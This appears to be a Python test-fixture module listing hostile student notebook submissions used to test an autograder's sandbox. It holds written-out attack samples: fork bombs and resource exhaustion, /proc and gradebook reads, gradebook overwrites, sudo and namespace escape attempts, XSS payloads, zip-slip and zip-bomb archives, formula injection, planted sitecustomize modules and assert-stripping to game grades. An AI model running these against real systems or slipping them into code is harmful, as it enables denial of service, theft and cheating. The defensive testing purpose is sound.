"""What hostile students try: each attack is one hand-in, with what it may earn and what has to be said of it.

Sources may use ``{root}`` (the course's folder, as if the attacker knew it), ``{port}`` and ``{socket}`` (where the
test listens), ``{mark}`` (a number that names what is left behind). A cell that gets what it should not prints LOOT;
one that would harm a machine without walls looks first, and prints LOOT in place of the harm.
"""

import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

LOOT = "LOOT"  # sources write it in two pieces, so that they are no proof
HEAD = 'def have(*loot):\n    print("LO" "OT", *loot)\n'
WALLED = "import os\nif os.getpid() != 1 or os.getuid() == 0:\n    raise SystemExit(have('no walls'))\n"
LOOK = r"""
import re
def look(path):
    try:
        with open(path, 'rb') as file:
            found = re.findall(rb'CANARY-\d+|secret_n[u]mbers|hidden_[s]tep', file.read(1_000_000))
    except OSError as error:
        return print('no', type(error).__name__)
    have(path, found[:3]) if found else print('nothing there')
"""
WRONG = {"mean": "def mean(x):\n    return 0"}
NO_MEAN = {"mean:mean_test": 2}
NO_SPREAD = {"gap:spread_test": 2}


@dataclass(frozen=True)
class Attack:
    """One hostile hand-in.

    Attributes
    ----------
    name : str
        The student's folder.
    answers : dict of str to str
        Answer cells that differ from the right ones.
    first, last : str
        A cell of the student's own, before or behind all others.
    book : str
        The notebook that those are in.
    lost : dict of str to float
        Points by part that are not due.
    status : str
        What the row has to say; words with ``|`` between them where it may be either.
    told : str
        A pattern that is found in the row's tampering, notes or reason; nothing where an attack can't be told
        from honest work.
    shape : callable, optional
        Changes the notebooks before they are written, or gives back a function of the folder for afterwards.
    """

    name: str
    answers: dict = field(default_factory=dict)
    first: str = ""
    last: str = ""
    book: str = "mean"
    lost: dict = field(default_factory=dict)
    status: str = "graded"
    told: str = ""
    shape: Callable | None = None


def mean(source, name, lost=NO_MEAN, **more):
    """An attack in the function `mean`, where it earns nothing."""
    return Attack(name, {"mean": source}, lost=lost, **more)


def mean_returns(value, name, **more):
    return mean(f"class Odd:\n    pass\n\ndef mean(x):\n    return {value}", name, **more)


# -- reading what is not theirs --------------------------------------------------------------------------------------

READ = [
    Attack("reads by path", first=LOOK + """
for name in ('solutions/toy/mean.ipynb', 'build/gradebook.db', 'build/ledger.sqlite', 'build/release/toy/mean.ipynb',
             'in/honest 00/mean.ipynb', 'build/submitted/honest 00/toy/mean.ipynb', 'canary.txt'):
    look('{root}/' + name)
""", told=r"tried to read .*gradebook\.db"),
    Attack("reads its way up", first=LOOK + """
import os
for up in range(1, 6):
    for base, folders, names in os.walk('../' * up):
        folders[:] = [name for name in folders if name not in ('proc', 'usr', 'lib', 'sys')][:20]
        if '{root}' in os.path.abspath(base):
            have(base)
""", told="tried to list"),
    Attack("reads other processes", first=WALLED + LOOK + """
import glob
for name in glob.glob('/proc/[0-9]*'):
    for kind in ('environ', 'cmdline', 'maps', 'cwd/canary.txt', 'root/{root}/canary.txt'):
        look(f'{name}/{kind}')
have('sees processes of others') if len(glob.glob('/proc/[0-9]*')) > 3 else None
""", told="tried"),
    Attack("reads the environment", first="import os\nfor name, value in os.environ.items():\n"
           "    have(name) if 'CANARY' in value or name.startswith('NBGRADER') else None"),
    Attack("reads its own memory", answers={"mean": LOOK + """
import gc, sys
def mean(x):
    frame, texts = sys._getframe(), []
    while frame:
        texts += map(repr, [*frame.f_locals.values()])
        frame = frame.f_back
    texts += [repr(each)[:5000] for each in gc.get_objects()[-3000:] if type(each) in (dict, list, tuple)]
    loot = re.findall(r'secret_n[u]mbers|hidden_[s]tep|Did you d[i]vide', ' '.join(texts))
    globals()['kept'] = loot
    return 0 if not loot else sum(x) / len(x)
"""}, last="have(kept) if kept else None", lost=NO_MEAN),
    Attack("reads the history", answers={"mean": "def mean(x):\n    globals()['kept'] = [one for one in In if 'secret_' + 'numbers' in one "
           "or 'HIDDEN' + ' TESTS' in one]\n    return 0"}, last="have(kept) if kept else None", lost=NO_MEAN),
    Attack("takes a callback apart", answers={"twice": """
kept = []
def twice(f, x):
    for name in ('__globals__', '__code__', '__closure__', '__defaults__', '__wrapped__', '__self__'):
        found = getattr(f, name, None)
        kept.append(repr(found)) if 'hidden' in repr(found) or 'step' in repr(found) else None
    import gc
    kept.extend(str(each) for each in gc.get_referents(f) if 'hidden_' + 's' in str(each))
    return f(f(x))
"""}, last="have(*kept) if kept else None", book="gap"),
    Attack("finds what another left", first="""
import os
for place in ('/tmp/left', '/dev/shm/left', os.path.expanduser('~/left'), 'left', '../left'):
    have(place) if os.path.exists(place) else open(place, 'w').write('here')
"""),
    Attack("finds what the first left", first="""
import os
for place in ('/tmp/left', '/dev/shm/left', os.path.expanduser('~/left'), 'left', '../left'):
    have(place) if os.path.exists(place) else open(place, 'w').write('here')
"""),
    Attack("detects grading", {"mean": "import os, sys\n\ndef mean(x):\n"
           "    return sum(x) / len(x) if any('NBGRADER' in name for name in os.environ) else 0"}, lost=NO_MEAN),
]

# -- writing what is not theirs --------------------------------------------------------------------------------------

WRITE = [
    Attack("overwrites classmates", first="""
import glob, os
for name in ('in/honest 00/mean.ipynb', 'build/submitted/honest 00/toy/mean.ipynb', 'solutions/toy/mean.ipynb', 'canary.txt'):
    try:
        os.makedirs(os.path.dirname('{root}/' + name), exist_ok=True)
        open('{root}/' + name, 'w').write('gone')
    except OSError as error:
        print(type(error).__name__)
""", told="tried to write to|failed"),
    Attack("updates the gradebook", first="""
import sqlite3
try:
    with sqlite3.connect('{root}/build/gradebook.db') as file:
        file.execute('UPDATE grade SET manual_score = 99')
    have('gradebook')
except sqlite3.Error as error:
    print(error)
"""),
    Attack("opens libraries for writing", first="import numpy, mlmon, sys\nfor path in (numpy.__file__, mlmon.__file__, sys.executable):\n"
           "    try:\n        open(path, 'r+b').close()\n        have(path)\n    except OSError as error:\n        print(error)",
           told="tried to write to"),
    Attack("links at run time", {"save": "import os\n\ndef save(path):\n    os.symlink('{root}/canary.txt', path)\n    return path"},
           lost={"gap:save_test": 1}),
    Attack("names a file elsewhere", {"save": "def save(path):\n    return '{root}/canary.txt'"}, lost={"gap:save_test": 1}),
    Attack("asks for a pipe to be read", {"save": "import os\n\ndef save(path):\n    os.mkfifo(path)\n    return path"},
           lost={"gap:save_test": 1}),
]

# -- swaying the verdict ---------------------------------------------------------------------------------------------

SWAY = [
    Attack("strips asserts", WRONG, first="""
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
""", lost=NO_MEAN, told="ast_transformers"),
    Attack("blanks cells", WRONG, first="get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'] if 'assert' in ''.join(lines) else lines)",
           lost=NO_MEAN, told="cleanup_transforms"),
    Attack("blanks cells late", WRONG, first="get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'] if 'assert' in ''.join(lines) else lines)",
           lost=NO_MEAN, told="input_transformers_post"),
    Attack("replaces run_cell", WRONG, first="shell = get_ipython()\nshell.run_cell = lambda *a, **k: None", lost={**NO_MEAN, "mean:signs_test": 4},
           told="IPython itself"),
    Attack("overrides showtraceback", WRONG, first="get_ipython().showtraceback = lambda *a, **k: None", lost=NO_MEAN, told="IPython itself"),
    Attack("sets custom_exc", WRONG, first="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)", lost=NO_MEAN),
    Attack("hooks cells", WRONG, first="get_ipython().events.register('pre_run_cell', lambda info: globals().update(mean=lambda x: 2))",
           lost=NO_MEAN),
    mean("class Yes:\n    def __eq__(self, other): return True\n    __ne__ = lambda self, other: False\n"
         "    __bool__ = lambda self: True\n    __float__ = lambda self: 7.0\n    __index__ = lambda self: 7\n\n"
         "def mean(x):\n    return Yes()", "returns what equals all"),
    mean("class Two(float):\n    __eq__ = lambda self, other: True\n    __hash__ = float.__hash__\n    __sub__ = lambda self, other: 0.0\n\n"
         "def mean(x):\n    return Two(1)", "returns a number that equals all"),
    Attack("returns an array that equals all", {"spread": "import numpy\nclass All(numpy.ndarray):\n"
           "    __eq__ = __le__ = __lt__ = lambda self, other: numpy.True_\n    __array_ufunc__ = lambda self, *a, **k: numpy.True_\n"
           "    __array_function__ = lambda self, *a, **k: numpy.True_\n\ndef spread(x):\n    return numpy.zeros(3).view(All)"}, lost=NO_SPREAD),
    Attack("patches numpy", {"spread": "import numpy as np\nnp.isclose = np.allclose = lambda *a, **k: True\n"
           "np.mean = np.std = lambda *a, **k: 0.0\nnp.testing.assert_allclose = lambda *a, **k: None\n\ndef spread(x):\n    return 0.0"},
           lost=NO_SPREAD, told=r"numpy\.isclose was replaced"),
    Attack("patches in place", {"spread": "import json\njson.load.__code__ = (lambda fp, **k: 0.0).__code__\n\n"
           "def spread(x):\n    return 0.0"}, lost=NO_SPREAD, told=r"json\.load was replaced"),
    Attack("replaces modules", {"spread": "import sys, types\nfake = types.SimpleNamespace(isclose=lambda *a: True, std=lambda *a: 0, allclose=lambda *a: True)\n"
           "sys.modules['numpy'] = np = fake\n\ndef spread(x):\n    return 0.0"}, lost=NO_SPREAD, told=r"numpy\.\w+ was replaced"),
    Attack("patches builtins", {**WRONG, "signs": "import builtins\nbuiltins.sum = lambda x: 4\nbuiltins.abs = lambda x: 0\n"
           "builtins.AssertionError = type('Quiet', (Exception,), {})\n\ndef signs(x):\n    return [0]"},
           lost={**NO_MEAN, "mean:signs_test": 3}, told=r"builtins\.sum was replaced"),
    Attack("shadows builtins", {"signs": "sum = len = all = abs = lambda *a: 4\nprint_ = None\n\ndef signs(x):\n    return [0]"},
           lost={"mean:signs_test": 3}),
    Attack("shadows imports", {"spread": "class np:\n    isclose = std = staticmethod(lambda *a, **k: True)\nchecks = np\n\ndef spread(x):\n    return 0.0"},
           lost=NO_SPREAD),
    Attack("patches json and pickle", WRONG, first="import json, pickle\njson.loads = lambda *a, **k: 7\npickle.loads = lambda *a, **k: 7",
           lost=NO_MEAN, status="graded|crashed", told="json|ended the Python process"),
    Attack("patches the server", WRONG, first="""
from mlmon.grading import student, wire
student.Student.do_call = lambda self, target, args, kwargs: {'value': True}
student.Student.do_tampering = lambda self: {'value': []}
wire.Channel.receive_ = None
""", lost={**NO_MEAN, "mean:signs_test": 4}),
    Attack("hides its traces", WRONG, first="""
from mlmon.grading import student
import builtins
student._changes = lambda shell: []
builtins.all = lambda *a: True
""", lost=NO_MEAN),
    Attack("forges replies", {"mean": """
import gc
def mean(x):
    for each in gc.get_objects():
        if type(each).__name__ == 'Channel':
            for number in range(50):
                each.send({'id': number, 'value': 2})
                each.send({'id': number, 'outputs': [], 'error': None, 'score': 9})
    return 0
"""}, lost=NO_MEAN, told="reply that nobody asked for"),
    Attack("forges frames", {"mean": """
import os, stat, struct
def mean(x):
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.write(number, struct.pack('<Q', 2 ** 62) + b'{"value": 2}')
        except OSError:
            pass
    return 0
"""}, lost=NO_MEAN, status="graded|crashed"),
    Attack("answers from two processes", {"mean": "import os\n\ndef mean(x):\n    os.fork()\n    return sum(x) / len(x)"}),
    Attack("answers twice", {"mean": "import os\n\ndef mean(x):\n    return 2 if os.fork() else 7"}, lost=NO_MEAN),
    mean("def mean(x):\n    raise SystemExit(0)", "leaves by SystemExit"),
    mean("def mean(x):\n    raise KeyboardInterrupt", "raises KeyboardInterrupt"),
    mean("class Own(BaseException):\n    pass\n\ndef mean(x):\n    raise Own('not an Exception')", "raises a BaseException"),
    mean("class CellTimeoutError(Exception):\n    pass\n\ndef mean(x):\n    raise CellTimeoutError('looks like the grader')", "poses as the grader"),
    mean("class Bad(Exception):\n    def __str__(self):\n        raise SystemExit\n    __repr__ = __str__\n\ndef mean(x):\n    raise Bad()", "has errors without a text"),
    mean("class Long(Exception):\n    def __str__(self):\n        return 'x' * 50_000_000\n\ndef mean(x):\n    raise Long()", "has errors of endless length"),
    mean("class Odd(type):\n    mro = lambda cls: type.mro(cls)\n    __instancecheck__ = lambda cls, one: True\n\nclass Bad(Exception, metaclass=Odd):\n    pass\n\n"
         "def mean(x):\n    raise Bad('odd')", "has errors of an odd class"),
    Attack("renames errors", {"mean": "def mean(x):\n    raise type('<script>alert(1)</script>', (Exception,), {})('<img src=x onerror=alert(2)>')"}, lost=NO_MEAN),
    Attack("stops a test's loop", {"signs": "def signs(x):\n    raise StopIteration"}, lost={"mean:signs_test": 4}),
]

# -- what functions give back ----------------------------------------------------------------------------------------

GIVE = [
    mean_returns("[0] * 10**8", "returns much", status="graded|timed out|crashed"),
    mean_returns("'x' * 10**9", "returns a long text", status="graded|timed out|crashed"),
    mean_returns("range(10**12)", "returns a range"),
    mean_returns("10 ** 10_000", "returns a huge number"),
    mean_returns("__import__('functools').reduce(lambda a, _: [a], range(100_000), [])", "returns a deep list"),
    mean_returns("(lambda a: a.append(a) or a)([])", "returns a list that holds itself"),
    mean_returns("float('nan')", "returns nan"),
    mean_returns("'2'", "returns text"),
    mean_returns("type('L', (list,), {'__len__': lambda s: 2, '__iter__': lambda s: iter(int, 1)})([1])", "returns a false list"),
    mean_returns("type('D', (dict,), {'items': lambda s: iter(int, 1), 'keys': lambda s: iter(int, 1)})(a=1)", "returns a false dict"),
    mean_returns("__import__('numpy').lib.stride_tricks.as_strided(__import__('numpy').zeros(1), (10**7, 10**7), (0, 0))", "returns a strided array",
                 status="graded|crashed"),
    Attack("returns what runs when copied", {"mean": "class Run:\n    def __reduce__(self):\n        return (open, ('{root}/reduced', 'w'))\n"
           "    __reduce_ex__ = lambda self, _: self.__reduce__()\n    __getstate__ = __deepcopy__ = lambda self, *a: open('{root}/reduced', 'w')\n"
           "    __array__ = __float__ = __index__ = lambda self, *a, **k: open('{root}/reduced', 'w')\n\n"
           "def mean(x):\n    return Run()"}, lost=NO_MEAN),
    Attack("walks for ever", {"steps": "import itertools\n\ndef steps(n):\n    return itertools.count()"}, lost={"gap:steps_test": 1}, status="graded|timed out"),
    Attack("walks in large steps", {"steps": "def steps(n):\n    while True:\n        yield bytes(30_000_000)"}, lost={"gap:steps_test": 1}, status="graded|timed out|crashed"),
    Attack("has an odd length", {"steps": "class Odd:\n    __len__ = lambda self: 10**18\n    __iter__ = lambda self: self\n    __next__ = lambda self: 0\n\n"
           "def steps(n):\n    return Odd()"}, lost={"gap:steps_test": 1}, status="graded|timed out"),
    Attack("calls a callback for ever", {"twice": "def twice(f, x):\n    while True:\n        x = f(1)"}, lost={"gap:twice_test": 1},
           status="timed out"),
    Attack("calls a callback with odd things", {"twice": "def twice(f, x):\n    for odd in ([], {}, None, 'x' * 100, float('nan'), object(), twice):\n"
           "        try:\n            f(odd)\n        except Exception:\n            pass\n    return f(f(x))"}),
]
SCORES = {  # what `credit` gives back, and what it is worth: a number that is none, nothing; no number, a test that passed
    "float('nan')": 0, "-float('inf')": 0, "-1": 0, "99": 3, "10 ** 400": 0, "False": 0, "'nan'": 0, "'-5'": 0,
    "__import__('fractions').Fraction(10 ** 400)": 0, "__import__('decimal').Decimal('sNaN')": 0, "complex('nan')": 0,
    "__import__('numpy').array([float('nan')])": 0,
}  # fmt: skip

# -- using up the machine --------------------------------------------------------------------------------------------

USE_UP = [
    Attack("forks a bomb", last=WALLED + "import time\nfor _ in range(5_000):\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)",
           status="graded|crashed|timed out"),
    Attack("forks children that stay", last=WALLED + "import time\nfor _ in range(500):\n    try:\n        if os.fork() == 0:\n            open('/proc/self/comm', 'w').write('{mark}')\n"
           "            time.sleep(600)\n            os._exit(0)\n    except OSError:\n        break", status="graded|crashed|timed out"),
    Attack("starts many threads", last=WALLED + "import threading, time\ntry:\n    for _ in range(5_000):\n        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
           "    have('threads')\nexcept RuntimeError as error:\n    print(error)", status="graded|crashed|timed out"),
    Attack("takes all memory", last=WALLED + "held = []\nfor _ in range(600):\n    held.append(bytearray(b'x') * 10_000_000)\nhave('6 GB')", status="graded|crashed|timed out"),
    Attack("takes memory by many", last=WALLED + "import time\nfor _ in range(12):\n    if os.fork() == 0:\n        held = [bytearray(b'x') * 10_000_000 for _ in range(50)]\n"
           "        time.sleep(600)\n        os._exit(0)\ntime.sleep(20)\nhave('6 GB')", status="crashed|timed out"),
    Attack("takes shared memory", last=WALLED + "import mmap\nheld = []\nfor _ in range(60):\n    held.append(mmap.mmap(-1, 100_000_000))\n    held[-1].write(b'x' * 100_000_000)\nhave('6 GB')",
           status="graded|crashed|timed out"),
    Attack("fills the disk", last=WALLED + "import tempfile\nsize = 0\nfor place in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):\n    try:\n"
           "        for number in range(100):\n            with open(f'{place}/full{number}', 'wb') as file:\n                size += file.write(bytes(10_000_000))\n"
           "    except OSError as error:\n        print(error)\nhave(size) if size > 700_000_000 else None", status="graded|crashed"),
    Attack("prints a gigabyte", last="for _ in range(1000):\n    print('x' * 1_000_000)", status="graded|timed out"),
    Attack("writes a gigabyte below Python", last="import os\nfor _ in range(1000):\n    os.write(1, b'x' * 1_000_000)\n    os.write(2, b'x' * 1_000_000)"),
    Attack("prints many lines", last="for number in range(2_000_000):\n    print(number)", status="graded|timed out"),
    Attack("prints one line of 40 MB", last="print('x' * 40_000_000)"),
    Attack("displays 40 MB", last="from IPython.display import HTML, display\ndisplay(HTML('x' * 40_000_000))"),
    Attack("prints from a thread", last="import threading\ndef spam():\n    while True:\n        print('x' * 1000)\nthreading.Thread(target=spam, daemon=True).start()",
           status="graded|timed out"),
    Attack("runs on", last="while True:\n    pass", status="timed out", told="took too long"),
    Attack("catches the interrupt", last="while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
           status="timed out", told="took too long"),
    Attack("ignores the interrupt", last="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass", status="timed out", told="took too long"),
    Attack("blocks all signals", last="import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nwhile True:\n    pass", status="timed out", told="took too long"),
    Attack("computes below Python", last="import re\nre.match('(a+)+$', 'a' * 60 + 'b')", status="timed out", told="took too long"),
    Attack("stops itself", last="import os, signal\nfor _ in range(3):\n    os.kill(os.getpid(), signal.SIGSTOP)\n    os.kill(0, signal.SIGSTOP) if os.getpid() == 1 else None\nimport time\ntime.sleep(60)",
           status="timed out|crashed"),
    mean("def mean(x):\n    while True:\n        pass", "runs on in a test", status="timed out", told="mean_test"),
    mean("import os, signal, time\nsignal.signal(signal.SIGALRM, lambda *_: os._exit(3))\n\ndef mean(x):\n    signal.setitimer(signal.ITIMER_REAL, 0.01)\n"
         "    time.sleep(1)", "sets an alarm", status="crashed", told="mean_test"),
    mean("class Slow(Exception):\n    def __str__(self):\n        while True:\n            pass\n\ndef mean(x):\n    raise Slow()", "has errors that never end",
         status="graded|timed out"),
]

# -- ending, staying, breaking out -----------------------------------------------------------------------------------

STAY = [
    Attack("exits", last="import os\nos._exit(0)", status="crashed", told="ended the Python process"),
    Attack("exits before the first test", first="import os\nos._exit(0)", status="crashed", told="ended the Python process"),
    mean("import os\n\ndef mean(x):\n    os._exit(0)", "exits in a test", status="crashed", told="mean_test"),
    Attack("kills itself", last="import os\nos.kill(os.getpid(), 9)\nimport ctypes\nctypes.string_at(0)", status="crashed", told="ended the Python process"),
    Attack("kills everything", last=WALLED + "for process in (-1, 0, os.getppid(), 1):\n    try:\n        os.kill(process, 9)\n    except OSError as error:\n        print(error)",
           status="graded|crashed", told="tried to send signal|ended the Python process"),
    Attack("reads address 0", last="import ctypes\nctypes.string_at(0)", status="crashed", told="ended the Python process"),
    Attack("overflows the stack", last="import itertools\nx = iter([1])\nfor _ in range(1_000_000):\n    x = itertools.chain(x)\nnext(x)", status="crashed", told="ended the Python process"),
    Attack("closes all files", last="import os\nos.closerange(0, 1024)", status="crashed", told="ended the Python process"),
    Attack("leaves zombies", last=WALLED + "for _ in range(40):\n    if os.fork() == 0:\n        os._exit(0)"),
    Attack("leaves a process", last="import subprocess\nstays = subprocess.Popen(['sleep', '{mark}'])"),
    Attack("leaves a daemon", last=WALLED + "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.setsid()\n        os.execvp('sleep', ['sleep', '{mark}'])\n    os._exit(0)\nos.wait()"),
    Attack("leaves a process by the shell", last="get_ipython().system('nohup setsid sleep {mark} > /dev/null 2>&1 &')"),
    Attack("leaves a thread", last="import atexit, threading\natexit.register(lambda: [None for _ in iter(int, 1)])\ndef spin():\n    while True:\n        pass\nthreading.Thread(target=spin).start()"),
    Attack("becomes root", last="import os\nfor call in (os.setuid, os.setgid, os.seteuid):\n    try:\n        call(0)\n        have(call)\n    except OSError as error:\n        print(error)\n"
           "status = dict(line.split(':', 1) for line in open('/proc/self/status').read().splitlines())\n"
           "have(status) if os.getuid() == 0 or int(status['CapEff'], 16) or int(status['CapBnd'], 16) or status['NoNewPrivs'].strip() != '1' else None"),
    Attack("makes namespaces", last="import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor name, *args in (('unshare', 0x10000000), ('unshare', 0x20000), ('mount', b'/', b'/mnt', None, 4096, None), ('chroot', b'/'),"
           " ('ptrace', 16, os.getppid(), 0, 0), ('setns', 0, 0)):\n    have(name) if getattr(libc, name)(*args) == 0 else print(name, 'refused')", told="used ctypes"),
    Attack("lifts its limits", last="import resource\nfor kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):\n    try:\n"
           "        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n        have(kind)\n    except (ValueError, OSError) as error:\n        print(error)"),
    Attack("calls the loopback server", last="import socket\ntry:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).send(b'hello')\n    have('connected')\nexcept OSError as error:\n    print(error)"),
    Attack("calls an abstract socket", last="import socket\ntry:\n    with socket.socket(socket.AF_UNIX) as line:\n        line.connect('\\0{socket}')\n        line.send(b'hello')\n    have('connected')\n"
           "except OSError as error:\n    print(error)"),
    Attack("calls a named socket", last="import socket\ntry:\n    with socket.socket(socket.AF_UNIX) as line:\n        line.connect('{root}/line')\n    have('connected')\nexcept OSError as error:\n    print(error)"),
    Attack("calls the network", last="import socket\ntry:\n    socket.create_connection(('192.0.2.1', 9), timeout=2)\n    have('connected')\nexcept OSError as error:\n    print(error)",
           told=r"tried to connect to 192\.0\.2\.1"),
    Attack("runs setuid programs", last="import subprocess\nfor words in (['su', '-c', 'id -u'], ['sudo', '-n', 'id', '-u'], ['mount']):\n    try:\n"
           "        done = subprocess.run(words, capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL)\n        have(words) if done.stdout.strip() == '0' else None\n"
           "    except (OSError, subprocess.TimeoutExpired) as error:\n        print(error)"),
    Attack("waits for input", last="input('password: ')"),
]


# -- notebooks that are none -----------------------------------------------------------------------------------------


def tests_of(books):
    return [cell for book in books.values() for cell in book.cells if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code"]


def _each_test(change):
    def shape(books):
        for cell in tests_of(books):
            change(cell)

    return shape


def _raw(name, content):
    """Put a file beside the notebooks, or over one of them."""

    def shape(books):
        def after(place):
            target = place / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(content() if callable(content) else content)

        return after

    return shape


def _large(books):
    def after(place):
        os.truncate(place / "gap.ipynb", 65_000_000)

    return after


def _without_tests(books):
    for book in books.values():
        book.cells = [cell for cell in book.cells if cell not in tests_of({"": book})]


def _doubled(books):
    for book in books.values():
        book.cells += [nbformat.from_dict({**cell, "id": f"again-{number}"}) for number, cell in enumerate(tests_of({"": book}))]


def _tests_first(books):
    for book in books.values():
        tests = tests_of({"": book})
        book.cells = tests + [cell for cell in book.cells if cell not in tests]


def _no_ids(books):
    def after(place):
        for path in place.glob("*.ipynb"):
            raw = json.loads(path.read_text())
            for cell in raw["cells"]:
                cell.pop("id", None)
            path.write_text(json.dumps(raw))

    return after


def _forged_ids(books):
    for book in books.values():
        book.cells.append(nbformat.v4.new_code_cell("1", metadata={"nbgrader": {
            "grade_id": "<img src=x onerror=alert(3)>", "grade": True, "solution": False, "locked": True, "task": False,
            "points": 50, "schema_version": 3}}))  # fmt: skip


def _many_cells(books):
    books["gap"].cells += [nbformat.v4.new_markdown_cell("x") for _ in range(4_000)]


def _link(books):
    def after(place):
        (place / "gap.ipynb").unlink()
        os.symlink(place.parents[1] / "solutions" / "toy" / "gap.ipynb", place / "gap.ipynb")
        os.symlink(place.parents[1], place / "course")

    return after


def _slip(books):
    def after(place):
        with zipfile.ZipFile(place / "more.zip", "w") as pack:
            for name in ("../../slipped.ipynb", "/tmp/slipped-{0}.ipynb".format(os.getpid()), "..\\slipped.ipynb"):
                pack.writestr(name, "{}")

    return after


def _bomb(books):
    def after(place):
        with zipfile.ZipFile(place / "more.zip", "w", zipfile.ZIP_DEFLATED) as pack:
            pack.writestr("bomb.ipynb", bytes(70_000_000))

    return after


def _forged_date(books):
    def after(place):
        (place / "timestamp.txt").write_text("1999-01-01 00:00:00 UTC")

    return after


def _modules(books):
    def after(place):
        for name in ("numpy.py", "scipy.py", "mlmon.py", "json.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "evil.pth",
                     "nbgrader_config.py", "jupyter_config.py", ".ipython/profile_default/startup/00.py"):
            (place / name).parent.mkdir(parents=True, exist_ok=True)
            (place / name).write_text(f"open({str(place.parents[1] / 'module-ran')!r}, 'w')")

    return after


def _html_names(books):
    def after(place):
        (place / "<script>alert(4)<%2fscript>.txt").write_text("")
        (place / "gap.ipynb").rename(place / "gap <img src=x onerror=alert(5)>.ipynb")

    return after


def _essay(text, **attachments):
    def shape(books):
        cell = next(cell for cell in books["mean"].cells if cell.id == "essay")
        cell.source = text
        if attachments:
            cell["attachments"] = {name: {"text/html": html} for name, html in attachments.items()}

    return shape


SCRIPTS = ("<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></svg><iframe src='javascript:alert(4)'></iframe>"
           "<a href='javascript:alert(5)'>x</a><form action='https://example.org'><input></form><meta http-equiv='refresh' content='0;url=https://example.org'>"
           "<base href='https://example.org'><link rel=stylesheet href='https://example.org/x.css'><img src='https://example.org/pixel'>"
           "<math><mtext><style><img src=x onerror=alert(6)></style></mtext></math>")
NO_BOOK = {"gap:gap_test": 1, "gap:credit_test": 3, "gap:spread_test": 2, "gap:twice_test": 1, "gap:save_test": 1, "gap:steps_test": 1}

FORM = [
    Attack("hands in too much", shape=_large, status="missing notebook", lost=NO_BOOK, told="65 MB"),
    Attack("nests its notebook", shape=_raw("gap.ipynb", b'{"cells":' + b"[" * 200_000), status="corrupt notebook", lost=NO_BOOK, told="nested too deep|not JSON"),
    Attack("hands in no text", shape=_raw("gap.ipynb", b"\xff\xfe\x00\x01" * 100), status="corrupt notebook", lost=NO_BOOK, told="not text|not JSON"),
    Attack("hands in huge numbers", shape=_raw("gap.ipynb", b'{"cells": [], "n": ' + b"9" * 5000 + b"}"), status="corrupt notebook", lost=NO_BOOK),
    Attack("hands in many cells", shape=_many_cells),
    Attack("edits tests", WRONG, shape=_each_test(lambda cell: cell.update(source="assert True")), lost=NO_MEAN, told="mean_test had been edited"),
    Attack("deletes tests", WRONG, shape=_without_tests, lost=NO_MEAN, told="mean_test was missing"),
    Attack("moves tests", WRONG, shape=_tests_first, lost=NO_MEAN, told="order of the release was restored"),
    Attack("doubles cells", shape=_doubled, told="was there 2 times"),
    Attack("has no ids", shape=_no_ids),
    Attack("forges ids", shape=_forged_ids),
    Attack("forges points", shape=_each_test(lambda cell: cell.metadata.nbgrader.update(points=99))),
    Attack("forges flags", WRONG, shape=_each_test(lambda cell: cell.metadata.nbgrader.update(grade=False, solution=True, locked=False)), lost=NO_MEAN),
    Attack("forges the schema", shape=_each_test(lambda cell: cell.metadata.nbgrader.update(schema_version=99))),
    Attack("drops the schema", shape=_each_test(lambda cell: cell.metadata.nbgrader.pop("schema_version"))),
    Attack("strips metadata", WRONG, shape=_each_test(lambda cell: cell.metadata.clear()), lost=NO_MEAN),
    Attack("skips tests by tag", WRONG, shape=_each_test(lambda cell: cell.metadata.update(tags=["skip-execution", "raises-exception"])), lost=NO_MEAN),
    Attack("hands in links", shape=_link, status="missing notebook", lost=NO_BOOK, told="link or no regular file"),
    Attack("slips out of a zip", shape=_slip, told="points outside of the zip"),
    Attack("hands in a zip bomb", shape=_bomb, told="was left out|not text|not JSON|was not graded|empty"),
    Attack("forges the date", shape=_forged_date, told=r"timestamp\.txt is not a notebook"),
    Attack("hands in modules", shape=_modules, told=r"sitecustomize\.py is not a notebook"),
    Attack("has html in file names", shape=_html_names, told="was taken for"),
    Attack("shows scripts", last=f"from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML({SCRIPTS!r}), Javascript('alert(7)'))\n"
           "display({'image/svg+xml': '<svg onload=alert(8)></svg>', 'text/latex': '$<script>alert(9)</script>$', 'text/markdown': '<script>alert(10)</script>',"
           " 'application/vnd.jupyter.widget-view+json': {'model_id': '<script>'}, 'text/plain': '<script>alert(11)</script>'}, raw=True)\nprint('<script>alert(12)</script>\\x1b]8;;javascript:alert(13)\\x07')"),
    Attack("writes scripts in an essay", shape=_essay(SCRIPTS + "\n\n[x](javascript:alert(14)) ![y](https://example.org/y.png) $\\href{javascript:alert(15)}{z}$",
                                                      **{"a.html": "<script>alert(16)</script>"})),
    Attack("<script>alert(17)<∕script> & 'quotes' \"too\""),
    Attack("=HYPERLINK(1)+cmd"),
    Attack("%2e%2e%2f․․∕etc"),
]

ATTACKS = [*READ, *WRITE, *SWAY, *GIVE, *USE_UP, *STAY, *FORM,
